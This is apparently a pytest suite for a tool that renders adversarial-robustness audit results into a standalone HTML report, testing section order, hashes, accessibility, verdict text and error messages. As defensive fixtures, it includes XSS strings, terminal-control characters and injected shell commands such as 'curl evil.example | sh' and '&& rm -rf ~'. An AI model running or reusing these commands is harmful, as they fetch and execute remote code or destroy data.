"""The report: every section, from whatever an audit left, as one safe page that stands alone."""

from __future__ import annotations

import hashlib
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from PIL import Image
from sklearn.metrics import roc_auc_score

from assay import shelves
from assay.errors import DataError
from assay.reports import page as report
from assay.reports.sections import _html
from assay.store.audit_reader import Audit, ThreatBudget
from assay.store.schemas import METRICS

FILES = [
    "audit.yaml",
    "manifest.json",
    *(f"{name}.parquet" for name in ("metrics", "checks", "worst", "worst_case", "cost")),
]
CONTRACT = {  # what a report for approval must hold -> the sections that hold it, in this order on the page
    "verdict by gate": ["verdict"],
    "identity": ["identity"],
    "intended use, out-of-scope use, materiality": ["intended_use"],
    "threat models": ["threat_models"],
    "clean performance": ["clean_performance"],
    "attack results": ["attacks", "attack_map"],
    "security curves with certified floor": ["security_curves", "security_numbers"],
    "rates at the deployed threshold": ["operating_point"],
    "corruptions": ["corruptions"],
    "validity checks": ["checks"],
    "convergence and cost": ["cost"],
    "comparison with the predecessor": ["comparison"],
    "worst samples": ["worst_samples"],
    "limitations and residual risk": ["limitations"],
    "reproduction": ["reproduction"],
    "sign-off": ["sign_off"],
}
VOID = {"meta", "img", "br", "link", "input", "hr"}


class Page(HTMLParser):
    """Reads a page and keeps its tags, ids, links and text; a tag that is not closed is an error."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags, self.ids, self.links, self.open, self.text = [], [], [], [], ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_startendtag(self, tag, attrs):
        self._note(tag, attrs)

    def handle_starttag(self, tag, attrs):
        self._note(tag, attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def _note(self, tag, attrs):
        self.tags.append(tag)
        self.text += " "
        assert not any(name.startswith("on") for name, _ in attrs)
        self.ids += [value for name, value in attrs if name == "id"]
        self.links += [value for name, value in attrs if name in ("src", "href", "xlink:href", "action", "data")]
        self.links += [target for _, value in attrs for target in re.findall(r"url\(([^)]*)\)", value or "")]


@pytest.fixture(scope="module")
def html(pristine_audit_folder) -> str:
    """The report on the undecided audit."""
    return report.render(pristine_audit_folder)


def said(html: str) -> str:
    return " ".join(Page(html).text.split())


def section(folder: Path, name: str) -> str:
    return str(shelves.load("sections", name)(Audit(folder)).html)


def rewrite(path: Path, change) -> None:
    rows = [change(row) for row in pq.ParquetFile(path).read().to_pylist()]
    pq.write_table(pa.Table.from_pylist([row for row in rows if row], schema=pq.read_schema(path)), path)


def test_every_section_of_the_shelf_is_there_in_its_order(html):
    page = Page(html)
    expected = {name.replace("_", "-") for name in shelves.names("sections")}
    sections = [name for name in page.ids if name in expected]
    assert set(sections) == expected
    assert page.tags.count("section") == len(expected)
    contract = [name.replace("_", "-") for names in CONTRACT.values() for name in names]
    assert [name for name in sections if name in contract] == contract
    assert set(sections[:2]) == {"verdict", "summary"}


def test_contents_link_every_section(html):
    contents = re.search(r"<nav.*?</nav>", html, re.S)[0]
    assert re.findall(r'href="#(.*?)"', contents) == re.findall(r'<section id="(.*?)"', html)


def test_sections_name_the_files_they_read(html, audit_folder):
    named = set(re.findall(r'<a href="#reproduction">(.*?)</a>', html))
    assert named >= {"metrics.parquet", "checks.parquet", "cost.parquet", "worst.parquet", "scores/", "audit.yaml"}
    for name in {name for names in CONTRACT.values() for name in names} - {"verdict", "comparison", "sign_off"}:
        assert shelves.stated(shelves.load("sections", name), "SOURCES", ()), name


def test_every_file_that_a_section_was_read_from_is_there_and_listed_with_its_hash(html, pristine_audit_folder):
    named = set(re.findall(r'<a href="#reproduction">(.*?)</a>', html)) - {
        "Reproduction"
    }  # that one is of the contents
    rows = re.findall(
        r'<th[^>]* class="name"[^>]*>(.*?)</th>', re.search(r'id="reproduction".*?</section>', html, re.S)[0]
    )
    assert {name for name in named if not name.endswith("/")} <= set(rows)
    assert all(any(row.startswith(name) for row in rows) for name in named)
    assert "comparison.json" not in named
    digest = hashlib.sha256((pristine_audit_folder / "metrics.parquet").read_bytes()).hexdigest()
    assert digest in html


def test_checks_say_on_which_side_of_its_limit_a_value_lies(audit_folder):
    path = audit_folder / "checks.parquet"
    table = pq.read_table(path)
    rows = [
        {**table.to_pylist()[0], "check": name, "value": value, "limit": limit, "evidence": evidence}
        for name, value, limit, evidence in (
            ("below", 0.01, 0.02, "at linf 2/255 by pgd-linf"),
            ("above", 3.0, 1.0, "-"),
            ("at", 0.0, 0.0, "-"),
            ("idle", 0.0, 0.0, "not applicable: nothing was certified"),
        )
    ]
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)
    text = said(re.search(r'<section id="checks".*?</section>', report.render(audit_folder), re.S)[0])
    for part in ("0.01 < 0.02", "3 > 1", "0 = 0", "nothing was certified –", "at L∞ 2/255 by pgd-linf"):
        assert part in text


def test_cells_say_the_heading_of_their_column(html):
    summary = re.search(r'<section id="summary".*?</section>', html, re.S)[0]
    labels = re.findall(r'data-label="(.*?)"', summary)
    assert labels[:4] == ["Images", "AUROC", "Miss rate (anomalies)", "False-alarm rate (normals)"]
    rows = "<thead><tr><th>{{ name }}</th></tr></thead><tbody><tr><td>1</td></tr></tbody>"
    table = f"{{% call table('') %}}{rows}{{% endcall %}}"
    assert '<td data-label="norm &lt;b&gt;">' in _html.section("", table, name="norm <b>").html


def test_page_stands_alone(html):
    page = Page(html)
    assert not {"script", "iframe", "object", "embed", "link", "base"} & set(page.tags)
    assert "http:" not in html
    assert "https:" not in html
    assert "default-src 'none'" in html
    assert "@import" not in html
    assert all(link.startswith(("#", "data:image/png;base64,")) for link in page.links)


def test_ids_are_unique_and_links_resolve(html):
    page = Page(html)
    assert len(page.ids) == len(set(page.ids))
    targets = [link[1:] for link in page.links if link.startswith("#")]
    assert len(targets) > 20
    assert set(targets) <= set(page.ids)


def test_every_figure_has_alternative_text(html):
    figures = re.findall(r"<svg.*?</svg>", html, re.S)
    kinds = re.findall(r'aria-labelledby="(map|security|rates|scores)-\S*-title', html)
    assert [kinds.count(kind) for kind in ("map", "security", "rates", "scores")] == [2, 4, 2, 6]
    for text in figures:
        svg = ElementTree.fromstring(text)
        labels = svg.attrib["aria-labelledby"].split()
        assert svg.attrib["role"] == "img"
        assert [svg[0].tag, svg[1].tag] == ["title", "desc"]
        assert labels == [svg[0].attrib["id"], svg[1].attrib["id"]]
        assert all(len(child.text) > 10 for child in svg[:2])
    assert html.count("<img ") == html.count(' alt="') == 12


def test_hostile_names_are_text(html):
    page = Page(html)
    assert "<script>alert(1)</script>.png" in page.text
    assert 'broken "cell" & <b>' in page.text
    assert "<img src=x onerror=alert(1)>" in page.text
    assert "<rotation>" in page.text
    assert "<script" not in html
    assert "<i>" not in html
    figures = (ElementTree.fromstring(svg) for svg in re.findall(r"<svg.*?</svg>", html, re.S))
    assert "noise <i>&$x$-linf (control)" in "".join(text for svg in figures for text in svg.itertext())


STEERING = "\u202egnp.\x1b[31m\u2066\u200b\x07"


def test_nothing_that_turns_text_or_steers_a_terminal_reaches_the_page(audit_folder, verdict_of):
    """Not out of any text of the audit: names, notes, checks, a verdict."""

    def turned(value):
        if isinstance(value, dict):
            return {key: turned(item) for key, item in value.items()}
        if isinstance(value, list):
            return [turned(item) for item in value]
        plain = not isinstance(value, str) or re.fullmatch(r"[a-z0-9_.:+-]*|PASS|FAIL", value) or "T" in value[:11]
        return value if plain else value + STEERING

    for name, kind in (("audit.yaml", yaml), ("manifest.json", json)):
        path = audit_folder / name
        load, dump = (yaml.safe_load, yaml.safe_dump) if kind is yaml else (json.loads, json.dumps)
        path.write_text(dump(turned(load(path.read_text()))), encoding="utf-8")
    (audit_folder / "verdict.json").write_text(json.dumps(turned(verdict_of("FAIL"))))
    rewrite(audit_folder / "checks.parquet", lambda row: {**row, "evidence": row["evidence"] + STEERING})
    page = report.render(audit_folder)
    assert page.count("\ufffdgnp.\ufffd[31m\ufffd\ufffd\ufffd") > 10
    assert not set(page) & set("\u202e\x1b\u2066\u200b\x07")
    assert "unicode-bidi: isolate" in page


@pytest.mark.parametrize(
    "command",
    [
        "assay audit 0123456789ab; curl evil.example | sh",
        "assay audit 0123456789ab --suite standard && rm -rf ~",
        "curl evil.example",
        "assay audit $(id) --suite standard",
        "assay audit 0123456789ab --suite 'a\nb'",
        "assay audit 0123456789ab --allow-import evil",
        "assay 'audit",
    ],
)
def test_a_command_of_somebody_elses_is_not_advice(audit_folder, command):
    path = audit_folder / "audit.yaml"
    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "command": command}))
    (audit_folder / "cost.parquet").unlink()
    with pytest.raises(DataError) as caught:
        _ = Audit(audit_folder).cost
    assert "make it with: assay audit MODEL --suite SUITE" in str(caught.value)
    assert "evil" not in section(audit_folder, "reproduction")
    assert "assay audit MODEL --suite SUITE" in section(audit_folder, "reproduction")


def test_the_command_of_an_audit_is_quoted_anew(audit_folder):
    path = audit_folder / "audit.yaml"
    words = "assay audit 0123456789ab --suite 'my $HOME.yaml' --seed 3 --device cuda:0"
    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "command": words}))
    assert Audit(audit_folder).command == words


def test_same_audit_same_bytes(audit_folder, html):
    assert report.render(audit_folder) == html


def test_write_leaves_one_whole_file(audit_folder, html):
    before = set(audit_folder.iterdir())
    path = Path(report.write(audit_folder))
    assert set(audit_folder.iterdir()) - before == {path} == {audit_folder / "report.html"}
    assert path.read_text(encoding="utf-8") == html


def test_failed_render_keeps_the_former_report(audit_folder):
    (audit_folder / "report.html").write_text("former")
    (audit_folder / "metrics.parquet").write_bytes(b"PAR1")
    with pytest.raises(DataError):
        report.write(audit_folder)
    assert (audit_folder / "report.html").read_text() == "former"
    assert not list(audit_folder.glob(".report-*"))


@pytest.mark.parametrize("word", ["PASS", "FAIL", "INVALID", "INCONCLUSIVE"])
def test_verdict_says_what_was_decided_and_why(audit_folder, verdict_of, word):
    (audit_folder / "verdict.json").write_text(json.dumps(verdict_of(word)))
    written = section(audit_folder, "verdict")
    text = said(written)
    assert f'class="verdict {word.lower()}"' in written
    assert text.index(f" {word} ") < 5
    assert "Policy solar <cells>, version 3" in text
    assert "0.644 [0.512, 0.776]" in text
    assert "the lower bound 0.512 is compared with 0.600" in text
    assert ("2 passed; 1 failed (ball_respected); 0 missing." in text) == (word == "INVALID")
    assert ("Check ball_respected failed: <it left>" in text) == (word == "INVALID")


def test_verdict_tells_what_else_was_looked_at_and_what_the_register_ended_with(audit_folder, verdict_of):
    earlier = {"audit": "a-1", "verdict": "FAIL", "policy": "solar 2", "date": "2026-01-02", "answered": "new <images>"}
    earlier["limits"] = ["clean AUROC at least 0.9", "worst <kind> at least 0.5"]
    history = {
        "decisions": [earlier],
        "audits": ["a-1", "a-2 (screen)"],
        "models": 4,
        "register": {"r.json": "f0" * 32},
    }
    (audit_folder / "verdict.json").write_text(json.dumps({**verdict_of("PASS"), "history": history}))
    text = said(section(audit_folder, "verdict"))
    assert "4 models were audited on these test images. No correction was made for that" in text
    assert "2026-01-02 FAIL solar 2 clean AUROC at least 0.9; worst <kind> at least 0.5 a-1 new <images>" in text
    assert "Audits of the model: a-1, a-2 (screen)." in text
    assert f"The register ended with r.json (SHA-256 {'f0' * 32})." in text


def test_verdict_is_the_first_thing_on_the_page(audit_folder, verdict_of):
    (audit_folder / "verdict.json").write_text(json.dumps(verdict_of("FAIL")))
    text = said(report.render(audit_folder).replace("<style>", "<!--").replace("</style>", "-->"))
    assert text.startswith("Robustness audit of cobra on elpv: FAIL")
    assert text.index("✕ FAIL") < text.index("Contents") < text.index("Key figures")


def test_invalid_warns_at_the_figures(audit_folder, verdict_of):
    for word in ("FAIL", "INVALID"):
        (audit_folder / "verdict.json").write_text(json.dumps(verdict_of(word)))
        warned = "these figures must not be relied on" in said(section(audit_folder, "summary"))
        assert warned == (word == "INVALID")


def test_undecided_says_how_to_decide(audit_folder):
    text = said(section(audit_folder, "verdict"))
    assert "Not decided yet" in text
    assert "assay approve elpv-mono-64-standard-3f9c1b7a --policy" in text
    assert "can only say INVALID" not in text


def test_undecided_with_a_failed_required_check_says_what_must_follow(audit_folder):
    rewrite(audit_folder / "checks.parquet", lambda row: {**row, "passed": row["check"] != "ball_respected"})
    text = said(section(audit_folder, "verdict"))
    assert "did not pass: ball_respected. A policy that requires them can only say INVALID." in text


@pytest.mark.parametrize("key", ["audit", "model"])
def test_verdict_on_something_else_is_refused(audit_folder, verdict_of, key):
    (audit_folder / "verdict.json").write_text(json.dumps({**verdict_of("PASS"), key: "another"}))
    with pytest.raises(DataError, match=rf"decides on {key} 'another'.*assay approve"):
        section(audit_folder, "verdict")


def test_unknown_verdict_is_refused(audit_folder, verdict_of):
    (audit_folder / "verdict.json").write_text(json.dumps({**verdict_of("PASS"), "verdict": "MAYBE"}))
    with pytest.raises(DataError, match="'MAYBE', not one of PASS"):
        section(audit_folder, "verdict")


def test_what_the_detector_is_for_is_told_or_said_to_be_missing(audit_folder):
    text = said(section(audit_folder, "intended_use"))
    assert text.count("not stated") == 3
    assert "Intended use, out-of-scope use, materiality tier: the model's files do not say." in text
    manifest = json.loads((audit_folder / "manifest.json").read_text())
    stated = {"intended_use": "sort <cells>", "out_of_scope_use": ["people", "x-rays"], "materiality": "high"}
    (audit_folder / "manifest.json").write_text(json.dumps({**manifest, **stated}))
    text = said(section(audit_folder, "intended_use"))
    assert "sort <cells>" in text
    assert "people x-rays" in text
    assert "not stated" not in text
    assert "do not say" not in text


def test_identity_tells_hashes_seeds_and_how_the_threshold_was_set(audit_folder):
    text = said(section(audit_folder, "identity"))
    for words in ("3f9c1b7a", "f00d" * 16, "d" * 64, "c81e2fa", "c0de" * 16, "Seeds audit 0, training 17"):
        assert words in text
    assert "0.550, from validation normals (80 samples) for a false-alarm rate of 0.050" in text
    assert "Code hash, training not recorded" in text
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    manifest = json.loads((audit_folder / "manifest.json").read_text())
    (audit_folder / "manifest.json").write_text(json.dumps({**manifest, "environment": info["environment"]}))
    assert "by the same code" in said(section(audit_folder, "identity"))


def test_map_holds_the_auroc_of_every_attack_on_every_kind(audit_folder):
    audit, at = Audit(audit_folder), ThreatBudget("linf", 2 / 255)
    assert audit.shown("linf") == at
    assert audit.shown("l2") == ThreatBudget("l2", 0.25)
    m = audit.matrix
    [scores] = [
        v for s, v in m.values["adversarial_score"].items() if s[:2] == ("pgd-linf", "linf") and s[2] == 2 / 255
    ]
    rows = (m.labels == 0) | (m.defects == "crack")
    wanted = roc_auc_score(m.labels[rows], scores[rows])
    described = said(section(audit_folder, "attack_map"))
    assert re.search(rf"pgd-linf: all kinds \(30\) [.0-9]+, .*?crack \(20\) {wanted:.3f}", described)
    worst = audit.attacked("auroc", at, defect="crack")
    assert re.search(rf"worst case: all .*? crack \(20\) {worst.value:.3f}", described)


def test_convergence_is_told_or_said_to_be_missing(audit_folder):
    assert "No check of convergence was made" in said(section(audit_folder, "cost"))
    rewrite(audit_folder / "checks.parquet", lambda row: {**row, "check": "converged_in_steps", "passed": None})
    assert "converged in steps: not run" in said(section(audit_folder, "cost"))


def test_records_carry_their_hash(audit_folder, html):
    digest = hashlib.sha256((audit_folder / "metrics.parquet").read_bytes()).hexdigest()
    assert f"metrics.parquet 1 {digest}" in said(html)
    assert "scores/pgd-linf 1 " in said(html)


def test_large_pictures_are_shrunk(audit_folder):
    stream = io.BytesIO()
    Image.effect_noise((600, 400), 50).convert("RGB").save(stream, format="PNG")
    png = stream.getvalue()
    rewrite(audit_folder / "worst.parquet", lambda row: {**row, "clean_png": png, "adversarial_png": png})
    written = section(audit_folder, "worst_samples")
    assert written.count('src="data:image/jpeg;base64,') == 12
    assert len(written) < 12 * 40_000
    assert "worst.parquet</code> keeps them" in written


def test_figures_are_those_of_the_tables(audit_folder, html):
    text = said(html)
    rows = pq.ParquetFile(audit_folder / "metrics.parquet").read().to_pylist()
    for row in rows:
        if row["metric"] == "auroc" and (
            row["defect"] == "all" or (row["attack"] == "worst" and row["regime"] == "both")
        ):
            assert f"{row['value']:.3f} [{row['lower']:.3f}, {row['upper']:.3f}]" in text
    assert "L∞ 2/255" in text
    assert "steps 40, restarts 2" in text
    assert "0.125, 0.25, 0.5 white-box steps 40, restarts 2" in text
    assert "0.5 score queries 500" in text
    assert "0.5 none draws 10" in text


def test_average_precision_stands_beside_its_level_of_chance(audit_folder):
    def changed(row):
        clean = (row["attack"], row["metric"]) == ("clean", "miss_rate")
        return {**row, "metric": "average_precision", "normals": 30, "anomalies": 10} if clean else row

    rewrite(audit_folder / "metrics.parquet", changed)
    assert "over all cut-offs; by chance 0.250, the share of anomalies here" in said(
        section(audit_folder, "clean_performance")
    )


def test_cost_adds_up(html):
    text = said(html)
    assert "pgd-linf 180 7,380 (41.0) 7,200 (40.0) 1.8" in text
    assert "All attacks 1,080 198,360 (183.7) 14,400 (13.3)" in text


def test_sweep_marks_the_audited_trial(html):
    text = said(html)
    assert "18 complete, 1 failed, 5 pruned" in text
    assert "17 (audited)" in text


def test_limits_say_what_was_left_out(audit_folder):
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    (audit_folder / "audit.yaml").write_text(yaml.safe_dump({**info, "limit": 30}))
    text = said(section(audit_folder, "limitations"))
    assert "Larger changes than L∞ 4/255 and L2 0.5." in text
    assert "Attackers who have only the detector's decisions." in text
    assert "Attackers who have the weights" not in text
    assert "only 30 images of each class, evenly spread over it, were attacked" in text
    assert "restarts converged: Doubling the restarts" in text
    assert "nothing is certified" in text
    assert "crack (20)" in text
    missed, stopped = (
        Audit(audit_folder).rate(name, ThreatBudget("linf", 2 / 255)) for name in ("miss_rate", "false_alarm_rate")
    )
    assert f"misses {missed.value:.3f} [{missed.lower:.3f}" in text
    assert f"stops {stopped.value:.3f} [{stopped.lower:.3f}" in text


def test_a_polarity_chosen_without_labelled_anomalies_is_told(audit_folder):
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    manifest = json.loads((audit_folder / "manifest.json").read_text())
    member = {"item": {"monotone": {"polarity": "dark"}}}
    for labelled, parameters, told in (
        ("pseudo", {"polarity": "dark"}, True),
        ("labelled", {"polarity": "dark"}, False),
        ("pseudo", {"polarity": "both"}, False),
        ("pseudo", {"of": {"net": member, "pixels": {"item": "neighbours"}}}, True),
        ("pseudo", {"of": {"net": member, "other": {"item": {"local_pixels": {"polarity": "both"}}}}}, False),
    ):
        info["dataset"]["validation_anomalies"] = labelled
        manifest["parameters"] = parameters
        (audit_folder / "audit.yaml").write_text(yaml.safe_dump(info))
        (audit_folder / "manifest.json").write_text(json.dumps(manifest))
        assert ("polarity dark was chosen blindly" in said(section(audit_folder, "limitations"))) is told


def test_a_floor_for_one_attacker_stands_beside_all_others(audit_folder):
    path = audit_folder / "metrics.parquet"
    table = pq.read_table(path)
    rows = table.to_pylist()
    assert "What is proven for whom" not in said(section(audit_folder, "security_numbers"))
    [one] = [
        row
        for row in rows
        if (row["attack"], row["norm"], row["regime"], row["metric"], row["defect"])
        == ("worst", "linf", "both", "auroc", "all")
        and abs(row["epsilon"] - 2 / 255) < 1e-9
    ]
    rows.append({**one, "attack": "certified", "value": 0.123})
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)
    text = said(section(audit_folder, "security_numbers"))
    assert re.search(r"L∞ L∞ 2/255 0\.123 .* worst case of all attacks L2", text)
    assert re.search(r"L2 L2 0\.25 nothing is proven 0\.\d+ .* worst case of all attacks", text)
    assert re.search(r"patch – nothing is proven not attacked by this suite", text, re.I)
    assert "light – nothing is proven not attacked by this suite" in text
    light = {**one, "norm": "corruption", "epsilon": 3.0, "regime": "natural"}
    rows += [{**light, "attack": kind, "value": value} for kind, value in (("brightness", 0.41), ("contrast", 0.62))]
    rows.append({**light, "attack": "fog", "value": 0.1})
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)
    text = said(section(audit_folder, "security_numbers"))
    assert re.search(r"light severity 3 nothing is proven 0\.41\S* .*brightness", text)


def test_check_that_did_not_run_is_neither_passed_nor_failed(audit_folder):
    rewrite(audit_folder / "checks.parquet", lambda row: {**row, "passed": None})
    text = said(section(audit_folder, "checks"))
    assert "0 of 4 checks passed" in text
    assert text.count("– not run") == 4


def test_without_a_sweep_the_report_says_so(audit_folder):
    (audit_folder / "trials.parquet").unlink()
    assert "was not kept with this audit" in said(section(audit_folder, "pareto"))
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    (audit_folder / "audit.yaml").write_text(yaml.safe_dump({**info, "sweep": None, "trial": None}))
    assert "The model did not come from a sweep." in said(section(audit_folder, "pareto"))


def test_missing_notes_are_said_in_words(audit_folder):
    (audit_folder / "manifest.json").write_text('{"trainable": "cobra"}')
    text = said(section(audit_folder, "identity"))
    assert "Weights (SHA-256) not recorded" in text
    assert "cobra, seed not recorded" in text


def test_empty_tables_are_said_in_words(audit_folder):
    for name in ("worst", "checks"):
        rewrite(audit_folder / f"{name}.parquet", lambda row: None)
    text = said(section(audit_folder, "worst_samples") + section(audit_folder, "checks"))
    assert "The audit kept no pictures" in text
    assert "The audit made no checks of itself" in text


def test_figure_that_was_not_measured_is_said_in_words(audit_folder):
    rewrite(
        audit_folder / "metrics.parquet",
        lambda row: None if row["metric"] == "miss_rate" and row["attack"] == "worst" else row,
    )
    assert "not measured" in said(section(audit_folder, "summary"))


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("content", [None, b"\x00{not: [this"])
def test_missing_or_corrupt_file_is_named_with_the_command(audit_folder, name, content):
    path = audit_folder / name
    path.unlink()
    if content:
        path.write_bytes(content)
    with pytest.raises(DataError) as caught:
        report.render(audit_folder)
    assert str(path) in str(caught.value)
    assert "assay audit" in str(caught.value)


def test_missing_scores_are_named_where_they_are_needed(audit_folder, html):
    for part in audit_folder.glob("scores/*/*.parquet"):
        part.unlink()
    with pytest.raises(DataError, match=r"scores: no .*assay audit models/"):
        _ = Audit(audit_folder).matrix
    assert section(audit_folder, "cost") in html
    assert section(audit_folder, "operating_point") in html


def test_missing_column_and_missing_key_are_named(audit_folder):
    table = pq.ParquetFile(audit_folder / "checks.parquet").read()
    pq.write_table(table.drop_columns(["evidence"]), audit_folder / "checks.parquet")
    with pytest.raises(DataError, match=r"checks.parquet has no column evidence"):
        section(audit_folder, "checks")
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    del info["threshold"]["value"], info["command"]
    (audit_folder / "audit.yaml").write_text(yaml.safe_dump(info))
    with pytest.raises(DataError, match=r"audit.yaml: no threshold.value, command;"):
        section(audit_folder, "summary")


def test_metrics_without_rows_are_refused(audit_folder):
    pq.write_table(METRICS.empty_table(), audit_folder / "metrics.parquet")
    with pytest.raises(DataError, match=r"metrics.parquet holds no figures"):
        section(audit_folder, "summary")


def test_broken_picture_is_named(audit_folder):
    rewrite(audit_folder / "worst.parquet", lambda row: {**row, "clean_png": b"not a picture"})
    with pytest.raises(DataError, match=r"worst.parquet: the pictures of sample"):
        section(audit_folder, "worst_samples")


def test_worst_scores_move_the_attackers_way(audit_folder):
    labels, clean, attacked = Audit(audit_folder).worst_scores(ThreatBudget("linf", 2 / 255))
    assert (len(labels), labels.sum()) == (60, 30)
    assert (attacked[labels == 1] < clean[labels == 1]).all()
    assert (attacked[labels == 0] > clean[labels == 0]).all()


def test_reasons_what_was_left_out_and_what_was_noticed_are_told(audit_folder):
    page = report.render(audit_folder)
    for words in (
        "grey levels</strong> (L∞): nobody sees it &lt;b&gt;.",
        "transfer-linf: no other model was given.",
        "the score is random &lt;i&gt;",
        "apgd-linf: memory ran out",
    ):
        assert words in page


def test_limits_say_how_images_were_shrunk_and_cut(audit_folder):
    info = yaml.safe_load((audit_folder / "audit.yaml").read_text())
    manifest = json.loads((audit_folder / "manifest.json").read_text())
    info["dataset"]["shrinking"] = {"fit": "letterbox", "filter": "box"}
    (audit_folder / "audit.yaml").write_text(yaml.safe_dump(info))
    text = said(section(audit_folder, "limitations"))
    assert "with their aspect kept, black bars beside them, by the filter box" in text
    assert "tiles" not in text
    info["dataset"] |= {"item": {"name": "mvtec", "image_size": "native"}, "image_size": [300, 400]}
    (audit_folder / "audit.yaml").write_text(yaml.safe_dump(info))
    manifest["parameters"] = {"tile": 64, "overlap": 0.25}
    (audit_folder / "manifest.json").write_text(json.dumps(manifest))
    text = said(section(audit_folder, "limitations"))
    assert "Images of another size than 300 x 400, at which they were read." in text
    assert "tiles of 64 pixels a side, of which two beside each other share 25% or more" in text
    assert "by the filter" not in text
